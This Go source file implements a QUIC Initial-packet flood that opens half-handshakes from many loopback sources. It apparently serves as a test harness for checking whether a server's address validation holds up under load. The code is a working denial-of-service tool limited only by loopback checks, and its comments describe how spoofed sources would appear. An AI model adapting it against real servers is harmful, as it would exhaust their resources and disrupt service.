package attack

import (
	"bytes"
	"context"
	stdtls "crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"time"

	quicgo "github.com/quic-go/quic-go"
)

// ErrInvalidFlood is wrapped by the errors of the Start functions of this
// package for a configuration they cannot run.
var ErrInvalidFlood = errors.New("attack: invalid flood configuration")

// DefaultPortsPerSource is how many source ports each source address of a
// QUICFlood uses unless told otherwise.
const DefaultPortsPerSource = 16

// QUICFloodConfig says what a QUICFlood sends, from where, how fast and
// for how long.
type QUICFloodConfig struct {
	// Target is the victim's QUIC address, on loopback.
	Target netip.AddrPort
	// Sources are the loopback addresses the Initials leave from, in
	// turn. Default: 127.0.0.2 alone.
	Sources []netip.Addr
	// PortsPerSource is how many UDP sockets, each with its own port,
	// every source address sends from, in turn. Default:
	// DefaultPortsPerSource.
	PortsPerSource int
	// Rate is how many Initials the flood sends per second. It must be
	// positive.
	Rate float64
	// Duration bounds the flood. It must be positive.
	Duration time.Duration
	// Count, when positive, ends the flood after that many Initials,
	// sooner than Duration if the rate allows.
	Count int64
	// Retransmit, when positive, makes every client whose Initial is
	// still unanswered after Retransmit send it again, and again after
	// each further Retransmit (checked every Retransmit), until it is
	// answered or Duration ends: as a real client does after its probe
	// timeout. A victim may drop its stateless answers under load (a
	// quic-go server does when its queue of Retries or of
	// CONNECTION_REFUSED packets is full), counting on such retransmits.
	// Default: never, as an attacker spoofing its source addresses, who
	// would never see the answers.
	Retransmit time.Duration
}

// QUICFloodStats counts what a QUICFlood sent and what came back.
type QUICFloodStats struct {
	// Sent is the number of Initials sent, each by a different client.
	Sent int64
	// Resent is the number of Initials sent again, after
	// QUICFloodConfig.Retransmit without an answer. Each counts before
	// it leaves, so that no answer to it is seen before it counts.
	Resent int64
	// Retried is the number of Initials answered with a Retry: the victim
	// demanded that the sender prove its address, and kept no state.
	Retried int64
	// Answered is the number of Initials answered first with anything
	// else: the victim's handshake packets (it started a handshake, which
	// it keeps until its handshake timeout) or a CONNECTION_REFUSED.
	Answered int64
	// Replies is the number of datagrams received, whatever they were.
	Replies int64
}

// QUICFlood is a hostile QUIC client that sends Initial packets and never
// completes a handshake: each Initial is the first packet of a real
// quic-go client (QUIC v1, long header, a random destination connection
// ID of 8 to 20 bytes, a TLS ClientHello offering ALPN "libp2p", padded
// to 1200 bytes), whose socket lets that one packet out and drops everything the
// client sends after it; what the victim answers is counted and dropped.
// With QUICFloodConfig.Retransmit, the flood sends an unanswered Initial
// again, as its client would have.
// A victim without address validation therefore starts a handshake for
// every Initial and keeps it until its handshake timeout.
//
// The Initials leave at a steady rate from several source addresses and
// many source ports, as if from many clients; spoofed source addresses
// would look the same to the victim, except that they would never see a
// Retry.
type QUICFlood struct {
	cfg     QUICFloodConfig
	target  *net.UDPAddr
	sockets []*net.UDPConn
	tlsConf *stdtls.Config
	qconf   *quicgo.Config

	ctx  context.Context // ended by Close
	stop context.CancelFunc
	done chan struct{} // closed when the flood has stopped sending
	wg   sync.WaitGroup

	mu       sync.Mutex                 // guards the following
	stats    QUICFloodStats             // what was sent and received
	awaiting map[string]*pendingInitial // the Initials not yet answered, by source connection ID
	changed  chan struct{}              // closed and replaced whenever stats change
}

// pendingInitial is an Initial the victim has not answered yet.
type pendingInitial struct {
	udp    *net.UDPConn // the socket it left from
	packet []byte       // a copy, kept only to retransmit it
	sentAt time.Time    // when it was last sent; guarded by QUICFlood.mu
}

// StartQUICFlood binds the flood's sockets and starts sending. The flood
// ends after cfg.Duration or cfg.Count Initials, or when ctx ends; Close
// ends it sooner, and must be called in any case.
func StartQUICFlood(ctx context.Context, cfg QUICFloodConfig) (*QUICFlood, error) {
	if !cfg.Target.Addr().IsLoopback() || cfg.Target.Port() == 0 {
		return nil, fmt.Errorf("%w: target %s is not a loopback address and port", ErrInvalidFlood, cfg.Target)
	}
	if cfg.Rate <= 0 || cfg.Duration <= 0 {
		return nil, fmt.Errorf("%w: rate %v/s, duration %v", ErrInvalidFlood, cfg.Rate, cfg.Duration)
	}
	if len(cfg.Sources) == 0 {
		cfg.Sources = []netip.Addr{netip.AddrFrom4([4]byte{127, 0, 0, 2})}
	}
	for _, s := range cfg.Sources {
		if !s.IsLoopback() || s.Is4() != cfg.Target.Addr().Is4() {
			return nil, fmt.Errorf("%w: source %s is not a loopback address of the target's family", ErrInvalidFlood, s)
		}
	}
	if cfg.PortsPerSource <= 0 {
		cfg.PortsPerSource = DefaultPortsPerSource
	}
	f := &QUICFlood{
		cfg:    cfg,
		target: net.UDPAddrFromAddrPort(cfg.Target),
		tlsConf: &stdtls.Config{
			NextProtos:         []string{"libp2p"},
			InsecureSkipVerify: true, // nothing is verified: the handshake never gets that far
			MinVersion:         stdtls.VersionTLS13,
			// X25519 alone keeps the ClientHello within one Initial, so
			// that the victim has all it needs to answer.
			CurvePreferences: []stdtls.CurveID{stdtls.X25519},
		},
		qconf: &quicgo.Config{
			Versions:             []quicgo.Version{quicgo.Version1},
			HandshakeIdleTimeout: time.Second, // never reached: the dial is cancelled once the Initial is out
		},
		done:     make(chan struct{}),
		awaiting: map[string]*pendingInitial{},
		changed:  make(chan struct{}),
	}
	f.ctx, f.stop = context.WithCancel(ctx)
	// Interleaved, so that consecutive Initials come from different
	// addresses.
	for range cfg.PortsPerSource {
		for _, src := range cfg.Sources {
			udp, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(src, 0)))
			if err != nil {
				f.stop()
				f.closeSockets()
				return nil, fmt.Errorf("attack: binding a socket on %v: %w", src, err)
			}
			f.sockets = append(f.sockets, udp)
		}
	}
	for _, udp := range f.sockets {
		f.wg.Go(func() { f.drain(udp) })
	}
	f.wg.Go(f.run)
	if cfg.Retransmit > 0 {
		f.wg.Go(f.retransmit)
	}
	return f, nil
}

// maxInFlight bounds the clients between their start and their Initial.
const maxInFlight = 64

// run paces the Initials until the flood ends.
func (f *QUICFlood) run() {
	defer close(f.done)
	var clients sync.WaitGroup
	defer clients.Wait()
	slots := make(chan struct{}, maxInFlight)
	end := time.NewTimer(f.cfg.Duration)
	defer end.Stop()
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	start := time.Now()
	var launched int64
	for {
		select {
		case <-f.ctx.Done():
			return
		case <-end.C:
			return
		case now := <-tick.C:
			due := int64(f.cfg.Rate * now.Sub(start).Seconds())
			if f.cfg.Count > 0 {
				due = min(due, f.cfg.Count)
			}
			for ; launched < due; launched++ {
				select {
				case slots <- struct{}{}:
				case <-f.ctx.Done():
					return
				}
				udp := f.sockets[launched%int64(len(f.sockets))]
				clients.Go(func() {
					defer func() { <-slots }()
					f.sendInitial(udp)
				})
			}
			if f.cfg.Count > 0 && launched >= f.cfg.Count {
				return
			}
		}
	}
}

// sendInitial runs a quic-go client on udp until its first packet is
// out, then abandons it.
func (f *QUICFlood) sendInitial(udp *net.UDPConn) {
	ctx, cancel := context.WithCancel(f.ctx)
	defer cancel()
	pc := &firstPacketConn{udp: udp, unblock: make(chan struct{})}
	var scid string // the Initial's source connection ID, once parsed
	pc.sending = func(initial []byte) {
		cancel() // the client has done its part
		f.mu.Lock()
		defer f.mu.Unlock()
		_, id, ok := connIDs(initial)
		if !ok {
			return
		}
		scid = string(id)
		p := &pendingInitial{udp: udp, sentAt: time.Now()}
		if f.cfg.Retransmit > 0 {
			p.packet = bytes.Clone(initial)
		}
		f.awaiting[scid] = p
	}
	pc.sent = func(err error) {
		f.update(func(s *QUICFloodStats) {
			if err == nil {
				s.Sent++
			} else {
				delete(f.awaiting, scid) // never sent, so never answered
			}
		})
	}
	qt := &quicgo.Transport{Conn: pc}
	qc, err := qt.Dial(ctx, f.target, f.tlsConf, f.qconf)
	if err == nil { // cannot happen: the handshake cannot complete
		qc.CloseWithError(0, "")
	}
	qt.Close()
	pc.Close()
}

// retransmit sends again the Initials unanswered for cfg.Retransmit,
// every cfg.Retransmit, until the flood's duration ends or Close.
func (f *QUICFlood) retransmit() {
	end := time.NewTimer(f.cfg.Duration)
	defer end.Stop()
	tick := time.NewTicker(f.cfg.Retransmit)
	defer tick.Stop()
	var due []*pendingInitial
	for {
		select {
		case <-f.ctx.Done():
			return
		case <-end.C:
			return
		case now := <-tick.C:
			due = due[:0]
			f.update(func(s *QUICFloodStats) {
				for _, p := range f.awaiting {
					if now.Sub(p.sentAt) >= f.cfg.Retransmit {
						p.sentAt = now
						due = append(due, p)
					}
				}
				s.Resent += int64(len(due))
			})
			for _, p := range due {
				if _, err := p.udp.WriteTo(p.packet, f.target); err != nil {
					f.update(func(s *QUICFloodStats) { s.Resent-- }) // it never left
				}
			}
		}
	}
}

// drain reads what the victim sends to udp until the socket is closed,
// and counts it.
func (f *QUICFlood) drain(udp *net.UDPConn) {
	buf := make([]byte, 1500)
	for {
		n, _, err := udp.ReadFromUDP(buf)
		if err != nil {
			if errors.Is(err, net.ErrClosed) {
				return
			}
			continue // such as an ICMP error reported on the socket
		}
		b := buf[:n]
		f.update(func(s *QUICFloodStats) {
			s.Replies++
			// A reply's destination is the client's source connection ID.
			dcid, _, ok := connIDs(b)
			if _, waiting := f.awaiting[string(dcid)]; !ok || !waiting {
				return
			}
			delete(f.awaiting, string(dcid))
			if isRetry(b) {
				s.Retried++
			} else {
				s.Answered++
			}
		})
	}
}

// connIDs returns the connection IDs of a QUIC long-header packet.
func connIDs(b []byte) (dcid, scid []byte, ok bool) {
	if len(b) < 6 || b[0]&0x80 == 0 {
		return nil, nil, false
	}
	b = b[5:]
	if int(b[0])+1 >= len(b) {
		return nil, nil, false
	}
	dcid, b = b[1:1+b[0]], b[1+b[0]:]
	if int(b[0])+1 > len(b) {
		return nil, nil, false
	}
	return dcid, b[1 : 1+b[0]], true
}

// isRetry reports whether b is a QUIC v1 Retry packet: long header, fixed
// bit, type 3, version 1.
func isRetry(b []byte) bool {
	return len(b) >= 5 && b[0]&0xf0 == 0xf0 && b[1] == 0 && b[2] == 0 && b[3] == 0 && b[4] == 1
}

// update changes the flood's counts under its lock and wakes the callers
// of WaitFor.
func (f *QUICFlood) update(change func(*QUICFloodStats)) {
	f.mu.Lock()
	defer f.mu.Unlock()
	change(&f.stats)
	close(f.changed)
	f.changed = make(chan struct{})
}

// Stats returns what the flood has sent and received so far.
func (f *QUICFlood) Stats() QUICFloodStats {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.stats
}

// WaitFor waits until cond holds for the flood's counts, which it checks
// at once and after every change, or until ctx ends.
func (f *QUICFlood) WaitFor(ctx context.Context, cond func(QUICFloodStats) bool) error {
	for {
		f.mu.Lock()
		changed, stats := f.changed, f.stats
		f.mu.Unlock()
		if cond(stats) {
			return nil
		}
		select {
		case <-changed:
		case <-ctx.Done():
			return fmt.Errorf("attack: waiting on the QUIC flood (%+v): %w", f.Stats(), ctx.Err())
		}
	}
}

// Done is closed once the flood has stopped sending, after its duration
// or count, or after Close.
func (f *QUICFlood) Done() <-chan struct{} { return f.done }

// Close stops the flood, waits for its goroutines and closes its sockets.
func (f *QUICFlood) Close() error {
	f.stop()
	<-f.done
	f.closeSockets()
	f.wg.Wait()
	return nil
}

func (f *QUICFlood) closeSockets() {
	for _, udp := range f.sockets {
		udp.Close()
	}
}

// firstPacketConn is the socket of one of the flood's quic-go clients: it
// sends the client's first packet (its Initial) through a shared UDP
// socket and drops every later one; it delivers nothing to the client,
// whose reads wait until quic-go stops them with a read deadline, or
// until Close.
type firstPacketConn struct {
	udp     *net.UDPConn
	sending func([]byte) // called once, with the first packet, before it is sent
	sent    func(error)  // called once, after the first packet
	once    sync.Once
	unblock chan struct{} // closed by stopReading
	stopped sync.Once
}

var _ net.PacketConn = (*firstPacketConn)(nil)

func (c *firstPacketConn) WriteTo(p []byte, addr net.Addr) (int, error) {
	first := false
	c.once.Do(func() { first = true })
	if !first {
		return len(p), nil // dropped: the client never gets further
	}
	c.sending(p)
	n, err := c.udp.WriteTo(p, addr)
	c.sent(err)
	return n, err
}

func (c *firstPacketConn) ReadFrom([]byte) (int, net.Addr, error) {
	<-c.unblock
	return 0, nil, net.ErrClosed
}

func (c *firstPacketConn) stopReading() { c.stopped.Do(func() { close(c.unblock) }) }

func (c *firstPacketConn) Close() error { c.stopReading(); return nil }

func (c *firstPacketConn) LocalAddr() net.Addr { return c.udp.LocalAddr() }

// SetDeadline stops reads once t is set: quic-go sets a read deadline
// only to stop its read loop.
func (c *firstPacketConn) SetDeadline(t time.Time) error { return c.SetReadDeadline(t) }

func (c *firstPacketConn) SetReadDeadline(t time.Time) error {
	if !t.IsZero() {
		c.stopReading()
	}
	return nil
}

func (c *firstPacketConn) SetWriteDeadline(time.Time) error { return nil }

// SetReadBuffer does nothing; having it keeps quic-go from warning that
// it cannot size the socket's buffers.
func (c *firstPacketConn) SetReadBuffer(int) error { return nil }

// SetWriteBuffer does nothing, as SetReadBuffer.
func (c *firstPacketConn) SetWriteBuffer(int) error { return nil }
